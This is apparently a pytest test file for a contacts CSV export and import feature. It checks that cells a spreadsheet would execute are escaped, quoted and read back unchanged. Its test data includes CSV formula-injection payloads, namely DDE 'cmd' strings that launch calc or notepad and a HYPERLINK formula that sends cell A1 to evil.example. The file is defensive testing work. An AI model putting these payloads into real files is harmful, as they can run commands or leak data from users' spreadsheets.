"""CSV export writes no cell a spreadsheet would run; our import reads every such cell back."""

from __future__ import annotations

import csv
from pathlib import Path
from typing import Any

import pytest

from itfriend.core.contacts_io import export_contacts, import_contacts
from itfriend.core.contacts_io.cells import (
    escapes_possible,
    is_phone_number,
    neutralised,
    restored,
)
from itfriend.core.contacts_io.csv_fast import checked_csv_people
from itfriend.core.contacts_io.export import load_people
from itfriend.core.services import Services
from tests.core.test_contacts_io_round_trip import other

__all__ = ["other"]  # the fixture: a second, empty itfriend

PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "+cmd|' /C notepad'!A0",
    "-1",
    "'Tis the season",
    "'=1+1",
    "''",
]
# Excel in German, French or Spanish splits cells on ";": unquoted, "=cmd..." would be a cell.
SEMICOLON = "x;=cmd|' /C calc'!A0"
PHONES = ["+44 20 7946 0000", "+1 (555) 010-9999", "+49 30/1234-5678", "+33.1.23.45.67.89"]
FIELDS = ("preferred_name", "role", "department", "building", "floor", "room", "notes")


@pytest.mark.parametrize("value", PAYLOADS)
def test_a_cell_a_spreadsheet_would_run_is_escaped_and_read_back(value: str) -> None:
    cell = neutralised(value)
    assert cell == "'" + value
    assert restored(cell) == value


@pytest.mark.parametrize("value", [*PHONES, "Plain", "O'Brien", "a=b", "x-1", "", "'"])
def test_other_values_are_written_as_they_are(value: str) -> None:
    assert neutralised(value) == (value if value != "'" else "''")
    assert restored(neutralised(value)) == value


@pytest.mark.parametrize("value", ["+1+1", "+12", "+44 20 7946 0000=1", "+ 44", "+(1)A"])
def test_what_is_not_a_phone_number(value: str) -> None:
    assert not is_phone_number(value)


def test_a_foreign_cell_with_a_leading_apostrophe_is_kept() -> None:
    assert restored("'Tis") == "'Tis" and restored("'") == "'"


def people_with(services: Services, values: list[str], **extra: Any) -> None:
    for number, value in enumerate(values):
        fields = {key: value for key in FIELDS}
        services.people.add(f"Person {number}", phone=value, **fields, **extra)
    # A name a spreadsheet would run, too, and a formula after a ";".
    services.people.add("=1+2", email="formula@example.org", **extra)
    services.people.add("Semi Colon", role=SEMICOLON, notes=SEMICOLON, **extra)


def exported_cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as source:
        return [cell for row in csv.reader(source) for cell in row]


def test_the_export_has_no_cell_a_spreadsheet_would_run(services: Services, tmp_path: Path) -> None:
    people_with(services, PAYLOADS + PHONES)
    path = tmp_path / "people.csv"
    export_contacts(services, path)
    cells = exported_cells(path)
    assert "'=cmd|' /C calc'!A0" in cells and "'=1+2" in cells and "''Tis the season" in cells
    dangerous = [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert sorted(set(dangerous)) == sorted(PHONES)  # left dialable


def test_every_exported_cell_is_quoted(services: Services, tmp_path: Path) -> None:
    # OWASP: quoting every cell keeps a ";" from starting a new cell where ";" separates.
    people_with(services, PAYLOADS + PHONES)
    path = tmp_path / "people.csv"
    export_contacts(services, path)
    lines = path.read_text(encoding="utf-8-sig").splitlines()
    assert all(line.startswith('"') and line.endswith('"') for line in lines)
    assert f'"Semi Colon","","","","{SEMICOLON}"' in path.read_text(encoding="utf-8-sig")


@pytest.mark.parametrize("systems", [None, ["VPN"]], ids=["column-path", "row-path"])
def test_a_round_trip_gives_back_every_value(
    services: Services, other: Services, tmp_path: Path, systems: list[str] | None
) -> None:
    people_with(services, PAYLOADS + PHONES, **({"systems": systems} if systems else {}))
    path = tmp_path / "people.csv"
    export_contacts(services, path)
    # The plain file is read column by column, the one with systems row by row: both unescape.
    column_path = checked_csv_people(path.read_text(encoding="utf-8-sig")) is not None
    assert column_path == (systems is None)
    report = import_contacts(other, path)
    assert (report.created, report.warnings) == (len(PAYLOADS + PHONES) + 2, [])
    compared = ("name", "phone", *FIELDS)

    def values(s: Services) -> list[tuple[Any, ...]]:
        return sorted(tuple(p[k] for k in compared) for p in load_people(s))

    assert values(other) == values(services)
    # Importing the export again over the same people changes nothing.
    before = values(services)
    assert import_contacts(services, path).created == 0
    assert values(services) == before


@pytest.mark.parametrize(
    ("text", "possible"),
    [
        ("name,role\nAnn O'Brien,Dev\n", False),
        ("name,role\nAnn,'=1\n", True),
        ('name,role\nAnn," \'=1"\n', True),
        ("name;role\nAnn; \u00a0'=1\n", True),
        ("'name,role\nAnn,x\n", True),
        ("name,role\nAnn,Rock 'n' roll\n", False),
    ],
)
def test_which_files_may_hold_escaped_cells(text: str, possible: bool) -> None:
    assert escapes_possible(text, ";" if ";" in text else ",") is possible


def test_both_import_paths_unescape_a_cell_after_spaces(services: Services, tmp_path: Path) -> None:
    path = tmp_path / "people.csv"
    path.write_text("name,role\nAnn, '=1+1\nBob O'Brien,  ''Tis\n", encoding="utf-8")
    assert checked_csv_people(path.read_text(encoding="utf-8")) is not None  # the column path
    import_contacts(services, path)
    assert sorted((p["name"], p["role"]) for p in load_people(services)) == [
        ("Ann", "=1+1"),
        ("Bob O'Brien", "'Tis"),
    ]
